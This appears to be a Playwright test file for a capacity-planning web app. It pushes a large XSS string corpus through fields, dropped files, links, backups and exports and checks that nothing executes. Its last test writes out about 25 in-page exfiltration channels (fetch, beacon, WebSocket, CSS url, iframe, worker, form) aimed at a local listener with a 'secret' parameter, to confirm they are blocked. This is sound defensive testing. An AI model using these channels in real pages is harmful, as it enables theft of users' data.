/** Text stays text, and nothing gets out: a corpus of markup through every field and file, and ways out tried from inside the page. */
import { expect, test, type Page } from '@playwright/test';
import { createServer } from 'node:net';
import type { AddressInfo } from 'node:net';
import { readFile } from 'node:fs/promises';
import type { Scenario } from '../../src/scenario/scenario.ts';
import { writeLink } from '../../src/share/link.ts';
import { backupOfOne, writeBackup } from '../../src/store/backup.ts';
import { vllmServe } from '../fixtures/vllm-serve.ts';
import { xssStrings } from '../fixtures/xss-strings.ts';

async function opened(page: Page): Promise<void> {
  await page.goto('./');
  await expect(page.getByRole('heading', { level: 1 })).toContainText('You need', { timeout: 30_000 });
  await settled(page);
}

async function settled(page: Page): Promise<void> {
  await expect(page.locator('#answer')).toHaveAttribute('aria-busy', 'false', { timeout: 30_000 });
}

/** What ran, and elements that only markup taken from a text could have made. */
async function harm(page: Page): Promise<unknown> {
  return page.evaluate(() => {
    const scripted = [...document.querySelectorAll('*')].filter((each) =>
      [...each.attributes].some(({ name, value }) => /^on/.test(name) || /^\s*javascript:/i.test(value)),
    );
    return {
      ran: (globalThis as { pwned?: number }).pwned ?? 0,
      strangers: document.querySelectorAll('img, iframe, object, embed, base, audio, video, math, script:not([src])')
        .length,
      scripted: scripted.map((each) => each.outerHTML.slice(0, 120)),
    };
  });
}
const none = { ran: 0, strangers: 0, scripted: [] };

async function drop(page: Page, name: string, content: string): Promise<void> {
  const transfer = await page.evaluateHandle(
    (given) => {
      const data = new DataTransfer();
      data.items.add(new File([given.content], given.name, { type: 'text/plain' }));
      return data;
    },
    { name, content },
  );
  await page.dispatchEvent('body', 'drop', { dataTransfer: transfer });
}

const quoted = (text: string): string => `"${text.replace(/"/g, '""').replace(/[\r\n]/g, ' ')}"`;
const hours = Array.from({ length: 72 }, (_, hour) => new Date(Date.UTC(2026, 9, 1, hour)).toISOString());

test('markup in every field stays text', async ({ page }) => {
  expect(xssStrings.length).toBeGreaterThanOrEqual(300);
  await opened(page);
  await page.evaluate(() => document.querySelectorAll('details').forEach((each) => (each.open = true)));
  const fields = page.locator('#known input, header input, #start textarea');
  const count = await fields.count();
  expect(count).toBeGreaterThan(20);
  // every string through a field, every field with a dozen strings
  await fields.evaluateAll((inputs, strings) => {
    strings.forEach((text, index) => {
      const input = inputs[index % inputs.length] as HTMLInputElement;
      input.value = text;
      input.dispatchEvent(new Event('input', { bubbles: true }));
      input.dispatchEvent(new Event('change', { bubbles: true }));
    });
  }, xssStrings);
  await settled(page);
  expect(await harm(page)).toEqual(none);
  // and as the name of the service, which stands on every part, in the report and in Plotly
  const name = page.getByLabel('Name of the service');
  for (const text of xssStrings.filter((_, index) => index % 12 === 0)) {
    await name.fill(text.replaceAll('\0', ''));
    await name.press('Tab');
  }
  await settled(page);
  await page.evaluate(() => dispatchEvent(new Event('beforeprint')));
  expect(await harm(page)).toEqual(none);
});

test('markup in files, their names and their labels stays text', async ({ page }) => {
  await opened(page);
  const columns = 40;
  for (let from = 0; from < xssStrings.length; from += columns) {
    const names = xssStrings.slice(from, from + columns);
    const rows = hours.map((time, row) =>
      [time, ...names.map((_, at) => String(1000 + ((row * 7 + at) % 24)))].join(','),
    );
    await drop(page, `${names[0] ?? ''}.csv`, [['time', ...names.map(quoted)].join(','), ...rows].join('\n'));
    await expect(page.locator('#start')).toHaveAttribute('aria-busy', 'false', { timeout: 20_000 });
  }
  await settled(page);
  await page.evaluate(() => document.querySelectorAll('details').forEach((each) => (each.open = true)));
  expect(await harm(page)).toEqual(none);
  // services named by the corpus, and a Prometheus answer labelled by it
  const services = hours.flatMap((time) =>
    xssStrings.slice(0, 40).map((name, at) => `${time},${quoted(name)},${String(500 + at)}`),
  );
  await drop(page, 'services.csv', ['time,service,requests', ...services].join('\n'));
  await settled(page);
  const result = xssStrings.slice(0, 30).map((label, at) => ({
    metric: { __name__: 'requests_total', service: label },
    values: hours.map((time) => [Date.parse(time) / 1000, String(100 + at)]),
  }));
  await drop(page, 'prometheus.json', JSON.stringify({ status: 'success', data: { resultType: 'matrix', result } }));
  await settled(page);
  await drop(
    page,
    'scenario.yaml',
    `version: 1\nname: ${JSON.stringify(xssStrings[4])}\nservice:\n  team: ${JSON.stringify(xssStrings[8])}\nworkload:\n  demand:\n    requestsPerSecond: 5\n`,
  );
  await settled(page);
  await page.getByRole('button', { name: 'Explore the chart of demand' }).click();
  await expect(page.locator('#demand .main-svg').first()).toBeVisible({ timeout: 30_000 });
  expect({ ...((await harm(page)) as object), strangers: 0 }).toEqual(none);
});

const CHUNK = 75;
const chunks = Array.from({ length: Math.ceil(xssStrings.length / CHUNK) }, (_, at) =>
  xssStrings.slice(at * CHUNK, (at + 1) * CHUNK),
);

const wellFormed = (text: string): string => text.replace(/[\ud800-\udfff]/g, '?');

/** Every string of a chunk as a label that charts, tables, report and exports repeat. */
function scenarioOf(texts: readonly string[]): Scenario {
  const [name = '', team = '', cloudProvider = ''] = texts;
  return {
    version: 1,
    name,
    service: { team, cloudProvider },
    workload: { demand: { requestsPerSecond: 5 } },
    planning: {
      events: texts.map((each) => ({ name: each.slice(0, 200), startDate: '2026-09-01', demandMultiplier: 1.01 })),
    },
    resources: { prices: texts.map((label) => ({ gpu: 'H100-SXM', usdPerGpuHour: 2, label: label.slice(0, 200) })) },
  };
}

/** What a file does in the worst reader: one that takes it for a page, with no policy. */
async function runsIn(page: Page, content: string): Promise<number> {
  const reader = await page.context().newPage();
  await reader.route('**/*', (route) => route.abort());
  await reader.setContent(content, { waitUntil: 'commit' });
  await reader.waitForTimeout(300);
  const ran = await reader.evaluate(() => (globalThis as { pwned?: number }).pwned ?? 0);
  await reader.close();
  return ran;
}

test('markup in scenario files and in links of both kinds stays text', async ({ page }) => {
  test.setTimeout(120_000);
  const dialogs: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  await opened(page);
  const name = page.getByLabel('Name of the service');
  for (const [at, texts] of chunks.entries()) {
    const scenario = scenarioOf(texts);
    const yaml = at % 2 === 0;
    await drop(page, `${texts[1] ?? ''}.${yaml ? 'yaml' : 'json'}`, JSON.stringify(scenario));
    await expect(name).toHaveValue((scenario.name ?? '').replace(/[\0\r\n]/g, ''), { timeout: 20_000 });
    await settled(page);
    await page.evaluate(() => document.querySelectorAll('details').forEach((each) => (each.open = true)));
    expect(await harm(page)).toEqual(none);
  }
  // the link's banner reads it before anything is opened
  const banner = page.getByRole('region', { name: 'The link that was opened' });
  for (const texts of chunks) {
    const link = writeLink({ scenario: scenarioOf(texts), history: null });
    await page.evaluate((hash) => (location.hash = hash), link.slice(link.indexOf('#')));
    await expect(banner).toBeVisible();
    await banner
      .locator('details')
      .evaluateAll((all) => all.forEach((each) => ((each as HTMLDetailsElement).open = true)));
    expect(await harm(page)).toEqual(none);
  }
  for (const text of xssStrings) {
    await page.evaluate(
      (hash) => {
        location.hash = hash;
        return new Promise((resolve) => requestAnimationFrame(resolve));
      },
      `#p=rps:5,name:${encodeURIComponent(wellFormed(text).slice(0, 200))}`,
    );
  }
  expect(await harm(page)).toEqual(none);
  // written by hand without the encoding, as values and as names of fields
  for (const text of xssStrings.filter((_, index) => index % 3 === 0)) {
    await page.evaluate((hash) => {
      location.hash = hash;
      return new Promise((resolve) => requestAnimationFrame(resolve));
    }, `#p=rps:5,${text},model:${text}`);
  }
  expect(await harm(page)).toEqual(none);
  expect(dialogs).toEqual([]);
});

test('markup in benchmarks and in a backup stays text', async ({ page }) => {
  test.setTimeout(120_000);
  // plans are not what is looked at here
  await page.route(/planner[.]worker/, (route) => route.abort());
  await page.goto('./');
  await expect(page.getByText('Saved · only in this browser')).toBeVisible({ timeout: 20_000 });
  const plans = xssStrings.map((text) => {
    const scenario = { version: 1 as const, name: wellFormed(text).slice(0, 200) };
    return backupOfOne({ scenario, sampleId: null, history: null, past: [], future: [] }, 1);
  });
  await page.getByRole('button', { name: 'Plans', exact: true }).click();
  await page
    .getByLabel('Restore a backup')
    .setInputFiles({ name: 'b.json', mimeType: 'application/json', buffer: Buffer.from(writeBackup(plans)) });
  await expect(page.getByText(`${String(plans.length)} plans added`)).toBeVisible({ timeout: 30_000 });
  expect(await page.getByRole('dialog').getByRole('listitem').count()).toBeGreaterThanOrEqual(plans.length);
  expect(await harm(page)).toEqual(none);
  await page.keyboard.press('Escape');
  const dialog = page.getByRole('dialog', { name: 'Your benchmark' });
  const fields = ['model_id', 'backend', 'tokenizer_id', 'date', 'label', 'gpu', 'gpu_type', 'endpoint_type', 'extra'];
  for (let from = 0; from < xssStrings.length; from += fields.length) {
    const texts = xssStrings.slice(from, from + fields.length);
    const said = Object.fromEntries(texts.map((text, at) => [fields[at] ?? text, text]));
    await drop(page, `${texts[0] ?? ''}.json`, JSON.stringify({ ...vllmServe, ...said, [texts[1] ?? 'x']: texts[0] }));
    await expect(dialog).toBeVisible({ timeout: 20_000 });
    expect(await harm(page)).toEqual(none);
    await page.keyboard.press('Escape');
    await expect(dialog).toBeHidden();
  }
});

test('markup in labels that leave the page stays text: charts, report, every kind of file and its name', async ({
  page,
}) => {
  test.setTimeout(120_000);
  await opened(page);
  for (const [at, texts] of chunks.entries()) {
    await drop(page, 'service.json', JSON.stringify(scenarioOf(texts)));
    await expect(page.getByLabel('Name of the service')).toHaveValue((texts[0] ?? '').replace(/[\0\r\n]/g, ''), {
      timeout: 20_000,
    });
    await settled(page);
    await page.evaluate(() => dispatchEvent(new Event('beforeprint')));
    expect(await harm(page)).toEqual(none);
    await page.evaluate(() => dispatchEvent(new Event('afterprint')));
    await page.locator('#demand summary').evaluate((each) => ((each.parentElement as HTMLDetailsElement).open = true));
    const chart = page.waitForEvent('download');
    await page.locator('#demand').getByRole('button', { name: 'Save the chart as SVG' }).click();
    const svg = await readFile(await (await chart).path(), 'utf8');
    expect(await runsIn(page, svg)).toBe(0);
    const elements = [...svg.matchAll(/<([a-zA-Z][^\s/>]*)/g)].map((each) => each[1] ?? '');
    expect([...new Set(elements)].filter((each) => !drawn.includes(each))).toEqual([]);
    // every format once, the one for readers with every chunk
    const formats = await page
      .getByLabel('Format', { exact: true })
      .locator('option')
      .evaluateAll((all) => all.map((each) => (each as HTMLOptionElement).value).filter((value) => value !== ''));
    expect(formats.length).toBeGreaterThan(10);
    for (const format of formats.filter((each, index) => each === 'markdown' || index % chunks.length === at)) {
      await page.getByLabel('Format', { exact: true }).selectOption(format);
      const button = page.locator('#files').getByRole('button', { name: 'Download' });
      await expect(button)
        .toBeEnabled({ timeout: 10_000 })
        .catch(() => undefined);
      if (await button.isDisabled()) continue;
      const saved = page.waitForEvent('download');
      await button.click();
      const download = await saved;
      expect(download.suggestedFilename()).toMatch(/^[a-z0-9][\w.-]*$/i);
      if (format === 'markdown') expect(await runsIn(page, await readFile(await download.path(), 'utf8'))).toBe(0);
      expect(await harm(page)).toEqual(none);
    }
  }
});
const drawn = ['svg', 'title', 'desc', 'rect', 'text', 'line', 'path', 'g'];

test('twenty ways out of the page are shut', async ({ page }) => {
  const reached: string[] = [];
  const connected: string[] = [];
  let connections = 0;
  const server = createServer((socket) => {
    connections += 1;
    socket.once('data', (data) => reached.push(data.toString('latin1').split('\n')[0] ?? ''));
    socket.on('error', () => undefined);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const there = `127.0.0.1:${String((server.address() as AddressInfo).port)}`;
  await page.exposeFunction('note', async (name: string) => {
    await new Promise((resolve) => setTimeout(resolve, 150));
    if (connections > 0) connected.push(name);
    connections = 0;
  });
  await opened(page);
  const tried = await page.evaluate(async (host) => {
    const address = (name: string): string => `http://${host}/${name}?secret=1`;
    const put = (tag: string, attributes: Record<string, string>, inside = ''): void => {
      const element = document.createElement(tag);
      for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
      element.textContent = inside;
      document.body.append(element);
    };
    const ways: Record<string, () => unknown> = {
      fetch: () => fetch(address('fetch'), { mode: 'no-cors' }),
      post: () => fetch(address('post'), { method: 'POST', body: 'secret', mode: 'no-cors' }),
      request: () => {
        const request = new XMLHttpRequest();
        request.open('GET', address('xhr'));
        request.send();
      },
      beacon: () => navigator.sendBeacon(address('beacon'), 'secret'),
      socket: () => new WebSocket(`ws://${host}/socket`),
      events: () => new EventSource(address('events')),
      image: () => (new Image().src = address('image')),
      'image element': () => put('img', { src: address('img') }),
      'srcset of an image': () => put('img', { srcset: `${address('srcset')} 1x` }),
      style: () => put('style', {}, `body{background:url(${address('background')})}`),
      import: () => put('style', {}, `@import url(${address('import')});`),
      font: () => put('style', {}, `@font-face{font-family:x;src:url(${address('font')})}body{font-family:x}`),
      'inline style': () => put('div', { style: `background:url(${address('inline')})` }, 'x'),
      stylesheet: () => put('link', { rel: 'stylesheet', href: address('sheet') }),
      prefetch: () => put('link', { rel: 'prefetch', href: address('prefetch') }),
      preload: () => put('link', { rel: 'preload', as: 'script', href: address('preload') }),
      script: () => put('script', { src: address('script') }),
      module: () => import(/* @vite-ignore */ address('module')),
      frame: () => put('iframe', { src: address('frame') }),
      object: () => put('object', { data: address('object') }),
      embed: () => put('embed', { src: address('embed') }),
      video: () => put('video', { src: address('video'), autoplay: '' }),
      worker: () => new Worker(address('worker')),
      ping: () => {
        put('a', { href: '#', ping: address('ping') }, 'x');
        document.querySelector<HTMLAnchorElement>('a[ping]')?.click();
      },
      form: () => {
        put('form', { action: address('form'), method: 'post', target: '_blank' });
        document.querySelector<HTMLFormElement>('form[target]')?.submit();
      },
    };
    for (const [name, way] of Object.entries(ways)) {
      try {
        await Promise.race([way(), new Promise((resolve) => setTimeout(resolve, 50))]);
      } catch {
        // shut
      }
      await (globalThis as unknown as { note: (name: string) => Promise<void> }).note(name);
    }
    return Object.keys(ways).length;
  }, there);
  expect(tried).toBeGreaterThanOrEqual(20);
  expect(reached).toEqual([]);
  // Chromium warms up a connection for a frame or a form before it asks the policy: nothing is sent over it
  expect(connected.filter((name) => name !== 'frame' && name !== 'form')).toEqual([]);
  server.close();
});
